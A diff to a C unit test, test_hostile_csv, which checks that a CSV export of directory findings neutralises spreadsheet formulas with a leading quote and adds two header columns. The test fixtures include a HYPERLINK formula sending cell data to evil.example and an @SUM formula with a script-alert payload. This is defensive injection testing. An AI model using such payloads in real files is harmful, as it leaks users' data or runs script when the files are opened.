@@ -359,7 +359,7 @@ test_hostile_csv (void)
   assert_no_rlo_and_valid (text, length);
   g_assert_true (g_str_has_prefix (copy, "\xef\xbb\xbf" "category,severity,finding,object type,"
                                    "display name,UPN,mail,object id,attribute,value,in error,"
-                                   "since\r\n"));
+                                   "since,on-premises DN,suggested fix\r\n"));
   /* Every cell that a spreadsheet would evaluate starts with a quote. */
   g_assert_nonnull (strstr (copy, ",\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
                                   "\"\"Click\"\")\","));
@@ -367,7 +367,7 @@ test_hostile_csv (void)
   /* Quoted: LibreOffice splits at tabs and ';' by default. */
   g_assert_nonnull (strstr (copy, ",\"'@SUM(1+1)\t<script>alert(1)</script>\","));
   g_assert_nonnull (strstr (copy, ",\"'\rsmtp:sales@contoso.com\","));
-  g_assert_nonnull (strstr (copy, "2026-11-23T18:54:02Z\r\n"));
+  g_assert_nonnull (strstr (copy, "2026-11-23T18:54:02Z,,\r\n"));
   g_assert_null (strstr (copy, ",=")); g_assert_null (strstr (copy, ",+"));
   g_assert_null (strstr (copy, ",-")); g_assert_null (strstr (copy, ",@"));
   g_assert_null (strstr (copy, ",\"=")); g_assert_null (strstr (copy, ",\"+"));
